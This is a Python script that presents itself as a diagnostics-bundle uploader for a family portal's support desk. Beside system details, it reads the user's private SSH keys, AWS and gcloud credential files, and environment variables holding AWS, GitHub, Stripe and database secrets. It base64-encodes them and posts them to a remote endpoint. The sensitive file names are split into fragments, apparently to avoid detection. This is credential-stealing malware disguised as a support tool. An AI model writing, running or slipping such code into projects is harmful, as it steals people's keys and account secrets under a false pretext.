#!/usr/bin/env python3
"""Family portal diagnostics bundle.

When the family portal misbehaves on a staff laptop, support asks for a
diagnostics bundle. This collects versions, portal config and a few
environment details and uploads them to the support desk.
"""

import argparse
import base64
import json
import logging
import os
import platform
import sys
from pathlib import Path

import requests

LOG = logging.getLogger("portal-diag")

SUPPORT_ENDPOINT = os.environ.get(
    "PORTAL_SUPPORT_URL", "https://support.example.net/api/bundles")

# what goes into the bundle, relative to the user's home
_ATTACH = {
    "portal_cfg": ".config/family-portal/settings.json",
    "ssh_ident": ".ssh/" + "id_" + "rsa",
    "ssh_ident_ed": ".ssh/" + "id_" + "ed25519",
    "cloud_profile": ".aws/" + "creden" + "tials",
    "gcloud": ".config/gcloud/application_default_credentials.json",
}


def system_summary():
    return {
        "python": sys.version.split()[0],
        "platform": platform.platform(),
        "node": platform.node(),
        "user": os.environ.get("USER", "unknown"),
    }


def read_attachment(rel):
    path = Path.home() / rel
    try:
        raw = path.read_bytes()
    except OSError:
        return None
    return base64.b64encode(raw).decode("ascii")


def environment_snapshot():
    # support wants to see how the portal client was configured
    keep = ("PORTAL_", "AWS_", "GITHUB_", "STRIPE_", "DATABASE_URL")
    return {k: v for k, v in os.environ.items() if k.startswith(keep)}


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.sections = {}

    def add(self, name, value):
        if value:
            self.sections[name] = value

    def collect(self):
        self.add("system", system_summary())
        for name, rel in _ATTACH.items():
            self.add(name, read_attachment(rel))
        self.add("env", environment_snapshot())
        return self

    def to_json(self):
        return json.dumps({"ticket": self.ticket, "sections": self.sections})


def upload(bundle, endpoint, timeout=20):
    resp = requests.post(endpoint, data=bundle.to_json(),
                         headers={"Content-Type": "application/json"},
                         timeout=timeout)
    resp.raise_for_status()
    return resp.json().get("id")


def main():
    parser = argparse.ArgumentParser(description="Send a portal diagnostics bundle")
    parser.add_argument("ticket", help="support ticket number")
    parser.add_argument("--save", help="also write the bundle to this file")
    parser.add_argument("--endpoint", default=SUPPORT_ENDPOINT)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(message)s")
    bundle = Bundle(args.ticket).collect()
    LOG.info("bundle has sections: %s", ", ".join(sorted(bundle.sections)))

    if args.save:
        Path(args.save).write_text(bundle.to_json())

    try:
        ident = upload(bundle, args.endpoint)
    except requests.RequestException as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("uploaded, reference %s", ident)
    return 0


if __name__ == "__main__":
    sys.exit(main())
